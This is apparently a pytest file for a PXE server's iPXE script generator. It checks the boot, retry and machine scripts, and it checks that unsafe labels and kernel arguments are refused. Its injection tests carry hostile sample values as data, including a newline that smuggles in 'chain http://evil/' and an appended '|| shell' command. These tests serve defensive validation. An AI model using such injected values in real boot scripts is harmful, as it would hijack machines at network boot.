"""The iPXE scripts, written out in full."""

from __future__ import annotations

from dataclasses import replace

import pytest

from pxeserver.boot.loaders.ipxe import (
    MAX_COMMAND_LINE_BYTES,
    BootTarget,
    ScriptError,
    autoexec_ipxe,
    boot_ipxe,
    local_script,
    machine_script,
    own_labels,
    waiting_script,
)

SERVER = "http://10.77.0.1:8080"
TARGET = BootTarget(
    title="node1 (52:54:00:77:00:01) boots debian-12 5f3a",
    kernel_url="http://10.77.0.1:8081/assets/sha256/aa/vmlinuz",
    initrd_url="http://10.77.0.1:8081/assets/sha256/bb/initrd.img",
    arguments=("provision.machine=52:54:00:77:00:01", "console=ttyS0,115200", "quiet"),
)


def test_the_first_script_says_what_the_firmware_knows_and_asks_until_the_server_answers() -> None:
    assert boot_ipxe(SERVER) == (
        "#!ipxe\n"
        ":ask\n"
        "set arch ${buildarch}\n"
        "cpuid --ext 29 && set arch x86_64 ||\n"
        "chain --replace --autofree http://10.77.0.1:8080/v1/boot?mac=${mac:hexhyp}&uuid=${uuid}"
        "&arch=${arch}&platform=${platform}"
        "&serial=${serial:uristring}&asset=${asset:uristring}&hostname=${hostname:uristring}"
        "&manufacturer=${manufacturer:uristring}&product=${product:uristring} ||\n"
        "echo pxeserver: no answer from http://10.77.0.1:8080, asking again in 10 s\n"
        "sleep 10\n"
        "goto ask\n"
    )


def test_the_first_script_passes_on_the_labels_of_the_operator() -> None:
    assert "&platform=${platform}&rack=a1&serial=" in boot_ipxe(SERVER, {"rack": "a1"})


def test_the_labels_of_the_operator_are_said_again_when_the_machine_starts_over() -> None:
    again = "chain --replace --autofree http://10.77.0.1:8080/boot.ipxe?rack=a1&row=7 || goto"
    labels = own_labels({"rack": "a1", "asset": "IT 7", "row": "7", "odd": "a b", "platform": "efi"})

    assert again in machine_script(TARGET, server_url=SERVER, labels=labels)
    assert again in waiting_script(("no group",), server_url=SERVER, labels=labels)


@pytest.mark.parametrize(
    "label",
    [("rack", "a b"), ("rack", "${x}"), ("rack", "a&mac=1"), ("mac", "1"), ("Rack", "a"), ("rack", "")],
)
def test_a_label_that_would_change_the_script_is_refused(label: tuple[str, str]) -> None:
    with pytest.raises(ScriptError, match="label"):
        boot_ipxe(SERVER, dict([label]))


def test_the_script_beside_the_loader_brings_the_network_up_first() -> None:
    assert autoexec_ipxe(SERVER) == (
        "#!ipxe\n"
        ":network\n"
        "dhcp && goto ask ||\n"
        "echo pxeserver: no network, trying again in 10 s\n"
        "sleep 10\n"
        "goto network\n" + boot_ipxe(SERVER).removeprefix("#!ipxe\n")
    )


def test_the_local_script_gives_the_machine_back_to_its_firmware() -> None:
    assert local_script("boot: local\nshell") == (
        "#!ipxe\necho pxeserver: not from the network: boot: local?shell\nexit 1\n"
    )


def test_the_machine_script_boots_and_starts_over_when_that_fails() -> None:
    assert machine_script(TARGET, server_url=SERVER) == (
        "#!ipxe\n"
        "echo pxeserver: node1 (52:54:00:77:00:01) boots debian-12 5f3a\n"
        "imgfree\n"
        "kernel --name kernel http://10.77.0.1:8081/assets/sha256/aa/vmlinuz initrd=initrd"
        " provision.machine=52:54:00:77:00:01 console=ttyS0,115200 quiet || goto failed\n"
        "initrd --name initrd http://10.77.0.1:8081/assets/sha256/bb/initrd.img || goto failed\n"
        "boot || goto failed\n"
        ":failed\n"
        "echo pxeserver: the boot failed, starting over in 10 s\n"
        "sleep 10\n"
        "chain --replace --autofree http://10.77.0.1:8080/boot.ipxe || goto failed\n"
    )


def test_the_waiting_script_shows_the_reason_and_asks_again() -> None:
    script = waiting_script(("no group matches", "configs/node.yaml:3:5 hostname"), server_url=SERVER)

    assert script == (
        "#!ipxe\n"
        "echo\n"
        "echo pxeserver does not boot this machine:\n"
        "echo   no group matches\n"
        "echo   configs/node.yaml:3:5 hostname\n"
        ":again\n"
        "echo asking again in 10 s\n"
        "sleep 10\n"
        "chain --replace --autofree http://10.77.0.1:8080/boot.ipxe || goto again\n"
    )


@pytest.mark.parametrize(
    "argument",
    [
        pytest.param("quiet\nchain http://evil/", id="a second line"),
        pytest.param("a=\x1b[2J", id="an escape sequence"),
        pytest.param("x=${net0/ip}", id="a variable that iPXE would expand"),
        pytest.param("quiet || shell", id="a second command"),
        pytest.param("# quiet", id="a comment that hides the rest"),
        pytest.param("x=ä", id="a letter that firmware does not have"),
        pytest.param("", id="nothing"),
    ],
)
def test_a_value_that_would_change_the_script_is_refused(argument: str) -> None:
    with pytest.raises(ScriptError, match="kernel argument"):
        machine_script(replace(TARGET, arguments=(argument,)), server_url=SERVER)


def test_a_command_line_that_the_kernel_would_cut_is_refused() -> None:
    with pytest.raises(ScriptError, match="2061 bytes, only 2047 are kept"):
        machine_script(replace(TARGET, arguments=("x" * MAX_COMMAND_LINE_BYTES,)), server_url=SERVER)


def test_a_reason_with_odd_letters_is_shown_without_them() -> None:
    script = waiting_script(("bad\nline ${x} || shell # ö",), server_url=SERVER)

    assert "echo   bad?line $ {x} '||' shell '#' ?\n" in script
